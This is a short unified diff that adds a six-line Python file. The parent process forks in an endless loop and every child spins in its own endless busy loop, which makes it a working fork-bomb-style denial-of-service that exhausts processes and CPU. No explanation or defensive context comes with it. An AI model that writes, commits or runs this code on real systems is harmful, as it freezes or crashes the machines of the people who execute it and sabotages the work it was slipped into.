@@ -1,0 +1,6 @@
+import os
+
+while os.fork():
+    pass
+while True:
+    pass
